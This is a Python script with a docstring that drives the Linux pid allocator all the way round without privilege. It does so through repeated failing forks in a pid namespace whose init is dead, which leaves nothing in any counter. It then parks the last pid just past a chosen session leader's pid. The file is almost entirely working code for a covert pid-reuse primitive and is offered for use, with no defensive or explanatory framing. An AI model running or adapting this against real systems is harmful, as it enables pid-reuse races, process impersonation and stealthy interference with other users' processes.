"""Brings the pid allocator round without privilege and without a trace in any counter.

Forks into a pid namespace whose init has died fail with ENOMEM after taking a number in
every ancestor namespace and giving it back, so ~32k of them (well under a second; a user
namespace comes with the pid namespace for an unprivileged caller) move the machine's last
pid round without allocating a single task (nor a pidfs inode).

Usage as a script: ``pid_lap.py LEADER`` stops just past LEADER (within 10 pids), so that the
members a session made after its leader lie behind the last pid handed out.
"""

from __future__ import annotations

import ctypes
import os
import sys
from collections.abc import Callable


def last_pid() -> int:
    with open("/proc/sys/kernel/ns_last_pid") as f:
        return int(f.read())


def lap(stop: Callable[[int], bool], tries: int = 400_000) -> None:
    """Fails forks until the allocator wrapped and ``stop(last pid)`` holds; exits the
    process with a message if it never does. Leaves the caller in the dead namespace: only
    its children would notice."""
    libc = ctypes.CDLL(None, use_errno=True)
    flags = 0x20000000 | (0 if os.geteuid() == 0 else 0x10000000)  # CLONE_NEWPID (+ NEWUSER)
    if libc.unshare(flags) != 0:
        sys.exit("unshare failed")
    init = os.fork()  # the new namespace's init, which exits at once
    if init == 0:
        os._exit(0)
    os.waitpid(init, 0)
    prev, wrapped = last_pid(), False
    for _ in range(tries):
        if wrapped and stop(prev):
            return
        # CLONE_VM|CLONE_VFORK|SIGCHLD: fails with ENOMEM in a namespace without init; a
        # child that ran anyway would only exit.
        if libc.syscall(56, 0x4000 | 0x100 | 17, 0, 0, 0, 0) == 0:
            os._exit(0)
        now = last_pid()
        wrapped = wrapped or now < prev
        prev = now
    sys.exit("no lap")


if __name__ == "__main__":
    leader = int(sys.argv[1])
    lap(lambda now: leader < now < leader + 10)
